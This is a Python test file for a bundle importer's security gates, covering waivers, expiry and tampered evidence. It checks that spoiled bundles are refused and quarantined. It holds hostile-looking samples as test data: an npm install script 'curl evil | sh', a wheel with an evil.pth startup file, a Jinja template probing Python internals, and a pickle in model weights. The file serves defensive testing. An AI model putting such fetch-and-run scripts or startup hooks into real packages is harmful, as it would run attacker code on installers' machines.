"""The policy gates inside the importer: what each refuses, and what time changes afterwards."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from bundle.tests import makers
from python_plugins.tests.bundle.complete import Complete, days
from python_plugins.tests.bundle.helpers import Site
from python_plugins.tests.policy import test_caches
from python_plugins.tests.policy.bench import (
    SITE,
    environment,
    good_scan,
    model,
    npm_tree,
    sha,
    stamp,
)
from python_plugins.tests.policy.test_models import gguf_file
from tresor.bundle import gates, report
from tresor.bundle.errors import EnvironmentNotReadyError, RejectedError
from tresor.bundle.machine import locked
from tresor.policy import evaluate

NOW = days(1)


def reviewed(site: Site, day: int) -> str:
    with locked(site.store):
        return report.as_text(site.importer(days(day)).review())


def wheel_that_starts(complete: Complete) -> None:
    files = environment(makers.wheel("demo-app", "1.0", {"evil.pth": b"import os"}))
    complete.bench.parts["wheels-app"] = ("wheels", files)


def deb_beside_the_index(complete: Complete) -> None:
    kind, files = complete.bench.parts["debs-debian-12"]
    more = {**files, "pool/evil_1_amd64.deb": makers.deb("evil", "1")}
    complete.bench.parts["debs-debian-12"] = (kind, more)


def npm_script(complete: Complete) -> None:
    package = {"name": "demo", "version": "1.0.0", "scripts": {"install": "curl evil | sh"}}
    tree = npm_tree(("demo", "1.0.0", makers.tarball(package)))
    complete.bench.parts["npm-idp"] = ("npm", tree)


def template_that_reaches_out(complete: Complete) -> None:
    template = b"{{ messages.__class__ }}"
    complete.bench.parts["model-tiny"] = ("model", model(chat_template__jinja=template))
    complete.bench.templates["tiny"] = sha(template)


def pickle_in_model(complete: Complete) -> None:
    complete.bench.parts["model-tiny"] = ("model", model(pytorch_model__bin=b"\x80\x04"))


def code_in_model(complete: Complete) -> None:
    config = b'{"vision_config": {"auto_map": {"a": "b"}}}'
    complete.bench.parts["model-tiny"] = ("model", model(config__json=config))


def tail_behind_weights(complete: Complete) -> None:
    weights = makers.safetensors() + b"PK"
    complete.bench.parts["model-tiny"] = ("model", model(model__safetensors=weights))


def no_weights(complete: Complete) -> None:
    complete.bench.parts["model-tiny"] = ("model", model(model__safetensors=None))


def kernels_nobody_answers_for(complete: Complete) -> None:
    complete.bench.parts["engine-cache-big"] = ("engine_cache", test_caches.part())


def unlisted_component(complete: Complete) -> None:
    complete.bench.bill_change = lambda bill: bill["components"].pop()


def unknown_licence(complete: Complete) -> None:
    def change(bill: dict[str, Any]) -> None:
        bill["components"][0]["licenses"] = [{"expression": "SSPL-1.0"}]

    complete.bench.bill_change = change


def open_finding(complete: Complete) -> None:
    def change(found: dict[str, Any]) -> None:
        finding = {
            "id": "CVE-1",
            "purl": found["audited"][0],
            "severity": "critical",
            "exploited": False,
            "published": stamp(days(-60)),
        }
        found["findings"] = [finding]

    complete.bench.report_change = change


def stale_report(complete: Complete) -> None:
    def change(found: dict[str, Any]) -> None:
        found["database"]["date"] = stamp(days(-40))

    complete.bench.report_change = change


def infected(complete: Complete) -> None:
    scan = json.loads(good_scan(complete.bench.parts))
    digest = sha(complete.bench.parts["distribution"][1]["playbooks/site.yml"])
    scan["infected"] = [{"sha256": digest, "reason": "Eicar-Test-Signature"}]
    complete.scan = json.dumps(scan).encode()


REFUSED = [
    (wheel_that_starts, "wheels.start-up"),
    (deb_beside_the_index, "debs.outside-lock"),
    (npm_script, "npm.script"),
    (template_that_reaches_out, "models.template"),
    (pickle_in_model, "models.file"),
    (code_in_model, "models.code"),
    (tail_behind_weights, "models.safetensors"),
    (no_weights, "models.weights"),
    (kernels_nobody_answers_for, "caches.code"),
    (unlisted_component, "sbom.missing"),
    (unknown_licence, "licences.refused"),
    (open_finding, "vulnerabilities.open"),
    (stale_report, "vulnerabilities.stale"),
    (infected, "malware.infected"),
]


def test_good_bundle_passes_every_gate_and_the_receipt_says_so(
    site: Site, complete: Complete
) -> None:
    complete.make()
    assert site.take(complete, now=NOW).state == "AWAIT_APPROVAL"
    for person in site.people:
        site.approve(person, now=NOW)
    assert site.activate(NOW).state == "ACTIVE"
    receipt = json.loads((site.store.current / "receipt.json").read_bytes())
    passed = {row["gate"] for row in receipt["verdicts"] if row["severity"] == "pass"}
    assert passed == {"contents", *evaluate.GATES}


def test_every_gate_has_a_case() -> None:
    assert {rule.partition(".")[0] for _, rule in REFUSED} == set(evaluate.GATES)


@pytest.mark.parametrize(
    ("spoil", "rule"), REFUSED, ids=lambda value: getattr(value, "__name__", "")
)
def test_refusal_through_the_importer(
    site: Site, complete: Complete, spoil: Callable[[Complete], None], rule: str
) -> None:
    spoil(complete)
    complete.make()
    with pytest.raises(RejectedError) as caught:
        site.take(complete, now=NOW)
    assert caught.value.rule == rule
    (folder,) = (site.store.root / "quarantine").iterdir()
    assert json.loads((folder / "reason.json").read_bytes())["rule"] == rule
    rows = json.loads((folder / "verdicts.json").read_bytes())
    refusals = [row["rule"] for row in rows if row["severity"] == "refuse"]
    assert rule in refusals
    journal = [json.loads(line) for line in site.store.journal.read_text().splitlines()]
    assert (journal[-1]["state"], journal[-1]["rule"]) == ("REJECTED", rule)
    assert site.events()[-1] == "import.rejected"
    assert not any((site.store.root / "staging").iterdir())
    assert not list((site.store.state / "pending").glob("*"))


def test_bundle_without_evidence_is_refused(site: Site, complete: Complete) -> None:
    complete.bench.evidence = False
    complete.make()
    with pytest.raises(RejectedError, match=r"sbom\.missing.*and \d+ more"):
        site.take(complete, now=NOW)


def test_silent_gate_refuses(
    site: Site, complete: Complete, monkeypatch: pytest.MonkeyPatch
) -> None:
    complete.make()
    with monkeypatch.context() as patch:
        patch.setitem(gates.GATES, "licences", lambda _given: [])  # type: ignore[arg-type]
        with pytest.raises(RejectedError, match=r"licences\.silent"):
            site.take(complete, now=NOW)
    assert site.take(complete, now=NOW).state == "AWAIT_APPROVAL"


def test_gguf_needs_the_rules_of_the_site(site: Site, complete: Complete, rules: Path) -> None:
    files = model(model__safetensors=None)
    complete.bench.parts["model-tiny"] = ("model", {**files, "tiny.gguf": gguf_file()})
    complete.make()
    with pytest.raises(RejectedError, match=r"models\.file"):
        site.take(complete, now=NOW)
    rules.write_text('{"model_formats": ["safetensors", "gguf"]}')
    site.take(complete, now=NOW)
    assert "note: models.gguf" in reviewed(site, 1)


def test_waiver_is_red_for_its_site_and_no_other(site: Site, complete: Complete) -> None:
    complete.waived = (SITE, days(30))
    complete.make()
    with pytest.raises(RejectedError, match=f"is for site '{SITE}', this is 'bank-2'") as caught:
        site.take(complete, now=NOW, site="bank-2")
    assert caught.value.rule == "vulnerabilities.no-database"
    site.take(complete, now=NOW, site=SITE)
    text = reviewed(site, 1)
    assert "RED: vulnerabilities.no-database: vulnerability-database: WAIVED until" in text
    assert "RED: malware.missing: malware-scan: WAIVED until" in text
    used = [json.loads(line) for line in site.store.events.read_text().splitlines()]
    used = [row for row in used if row["event"] == "policy.waiver.used"]
    assert [row["thing"] for row in used] == ["vulnerability-database", "malware-scan"]
    assert all("by Ada" in row["seen"] for row in used)


def test_waiver_that_ends_before_the_approval_refuses(site: Site, complete: Complete) -> None:
    complete.waived = (SITE, days(30))
    complete.make()
    site.take(complete, now=NOW, site=SITE)
    site.approve("alice", now=days(29))
    assert "REFUSED: vulnerabilities.no-database" in reviewed(site, 31)
    assert "REFUSED: malware.missing" in reviewed(site, 31)
    with pytest.raises(RejectedError, match=r"vulnerabilities\.no-database.*ended on 2026-12-24"):
        site.approve("bob", now=days(31))
    assert site.events()[-1] == "import.approval-refused"


def test_waiver_that_ends_after_the_approvals_stops_the_activation(
    site: Site, complete: Complete
) -> None:
    complete.waived = (SITE, days(30))
    complete.make()
    site.take(complete, now=NOW, site=SITE)
    for person in site.people:
        site.approve(person, now=days(29))
    with pytest.raises(RejectedError, match="its waiver ended on"):
        site.activate(days(31))
    assert site.events()[-1] == "import.activation-refused"
    assert not site.store.current.exists()


def test_statement_that_ends_before_the_approval_opens_its_finding(
    site: Site, complete: Complete
) -> None:
    open_finding(complete)
    purl = json.loads(complete.bench.documents()["policy-report"][1]["report.json"])["audited"][0]
    statement = {
        "vulnerability": "CVE-1",
        "products": [{"@id": purl}],
        "status": "not_affected",
        "justification": "vulnerable_code_not_in_execute_path",
        "impact_statement": "Never called.",
        "status_notes": f"expires={stamp(days(10))}",
    }
    vex = {"@context": "https://openvex.dev/ns/v0.2.0", "statements": [statement]}
    complete.bench.vex = json.dumps(vex).encode()
    complete.make()
    site.take(complete, now=NOW)
    site.approve("alice", now=days(9))
    with pytest.raises(RejectedError, match=r"vulnerabilities\.open: critical.*CVE-1"):
        site.approve("bob", now=days(11))


def test_finding_that_grows_old_refuses_the_activation(site: Site, complete: Complete) -> None:
    open_finding(complete)
    change = complete.bench.report_change

    def young(found: dict[str, Any]) -> None:
        change(found)
        found["findings"][0]["published"] = stamp(days(-3))

    complete.bench.report_change = young
    complete.make()
    site.take(complete, now=NOW)
    assert "note: vulnerabilities.note: CVE-1" in reviewed(site, 1)
    for person in site.people:
        site.approve(person, now=days(10))
    with pytest.raises(RejectedError, match=r"vulnerabilities\.open"):
        site.activate(days(12))


def test_site_that_no_longer_takes_waivers_refuses_the_approval(
    site: Site, complete: Complete, rules: Path
) -> None:
    complete.waived = (SITE, days(30))
    complete.make()
    site.take(complete, now=NOW, site=SITE)
    rules.write_text('{"waivers_allowed": false}')
    with pytest.raises(RejectedError, match="allow no waivers"):
        site.approve("alice", now=NOW)


def test_licence_denied_after_the_import_refuses_the_approval(
    site: Site, complete: Complete, rules: Path
) -> None:
    complete.make()
    site.take(complete, now=NOW)
    rules.write_text('{"licences_denied": ["MIT"]}')
    with pytest.raises(RejectedError, match=r"licences\.refused"):
        site.approve("alice", now=NOW)


def test_damaged_rules_of_the_site_lose_nothing(
    site: Site, complete: Complete, rules: Path
) -> None:
    complete.make()
    rules.write_text("{")
    with pytest.raises(EnvironmentNotReadyError, match=r"environment\.rules"):
        site.take(complete, now=NOW)
    assert site.events()[-1] == "import.interrupted"
    assert not list((site.store.root / "quarantine").glob("*"))
    rules.unlink()
    assert site.take(complete, now=NOW).state == "AWAIT_APPROVAL"
    copied = [json.loads(line) for line in site.store.events.read_text().splitlines()]
    assert [row["read"] for row in copied if row["event"] == "import.copied"][-1] == 0
    rules.write_text("{")
    with pytest.raises(EnvironmentNotReadyError, match=r"environment\.rules"):
        site.approve("alice", now=NOW)


def test_evidence_changed_in_the_store_is_not_judged(site: Site, complete: Complete) -> None:
    complete.waived = (SITE, days(30))
    complete.make()
    site.take(complete, now=NOW, site=SITE)
    policy = complete.parts["policy-report"][2]["policy.json"]
    blob = site.store.blob(sha(policy))
    blob.chmod(0o644)
    blob.write_bytes(policy.replace(b"2026-12-24", b"2027-01-24"))
    with pytest.raises(EnvironmentNotReadyError, match=r"state\.content"):
        site.approve("alice", now=days(31))
    assert site.events()[-1] == "import.evidence-changed"
    assert site.take(complete, now=NOW, site=SITE).changed, "the import puts it right"
    assert site.approve("alice", now=NOW).changed
